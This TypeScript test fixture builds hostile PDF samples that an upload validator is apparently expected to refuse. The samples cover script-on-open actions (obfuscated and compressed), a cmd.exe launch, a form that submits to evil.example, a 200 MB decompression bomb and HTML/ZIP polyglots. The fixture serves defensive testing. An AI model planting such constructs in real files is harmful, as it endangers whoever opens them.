import { deflateSync } from 'node:zlib'
import { join, latin, zeros } from './file-parts.ts'
import { refused, type HostileClass } from './hostile-file.ts'

const paper = (...objects: readonly (string | Uint8Array)[]) =>
  join('%PDF-1.5\n', ...objects, '\ntrailer<</Root 1 0 R>>\n%%EOF\n')
const pdf = (...objects: readonly string[]) => refused('paper.pdf', () => paper(...objects))
const action = (body: string) => pdf(`1 0 obj<</Type/Catalog/OpenAction<<${body}>>>>endobj`)
const packed = (content: Buffer) => () =>
  paper(
    '1 0 obj<</Type/Catalog/OpenAction 3 0 R>>endobj\n',
    `2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${content.length}>>stream\n`,
    content,
    '\nendstream endobj',
  )

/** Papers that act when they are opened, and what only looks like one. */
export const hostilePapers: HostileClass = {
  'PDF with a script': action('/S/JavaScript/JS(app.alert(1))'),
  'PDF with a script in other letters': action('/S/J#61vaScript/#4aS(app.alert(1))'),
  'PDF with a packed script': refused(
    'paper.pdf',
    packed(deflateSync(latin('3 0 <</S/JavaScript/JS(app.alert(1))>>'))),
  ),
  'PDF with a script behind a false stream': pdf(
    '1 0 obj<</Type/Catalog>>endobj\n% stream\n3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n% endstream',
  ),
  'PDF with parts that cannot be looked at': refused('paper.pdf', packed(latin('this was never packed'))),
  'PDF with parts that unpack to 200 MB': refused('paper.pdf', () => packed(zeros(200))()),
  'PDF that starts a program': action('/S/Launch/F(cmd.exe)'),
  'PDF with a file in it': pdf('1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj'),
  'PDF with a film': pdf('1 0 obj<</Type/Annot/Subtype/RichMedia>>endobj'),
  'PDF with a form that acts': pdf('1 0 obj<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>endobj'),
  'PDF that sends a form': action('/S/SubmitForm/F(https://evil.example)'),
  'PDF behind a lock': pdf('1 0 obj<</Type/Catalog>>endobj\ntrailer<</Encrypt 5 0 R>>'),
  'PDF without an end': refused('paper.pdf', () => latin('%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj')),
  'PDF behind a page': refused('paper.pdf', () => latin('<html><script>alert(1)</script></html>%PDF-1.4\n%%EOF')),
  'PDF with a page in it': pdf('<html><script>alert(1)</script></html>'),
  'PDF that is also an archive': refused('paper.pdf', () =>
    join(paper('1 0 obj<</Type/Catalog>>endobj'), 'PK\x05\x06', Buffer.alloc(18)),
  ),
}
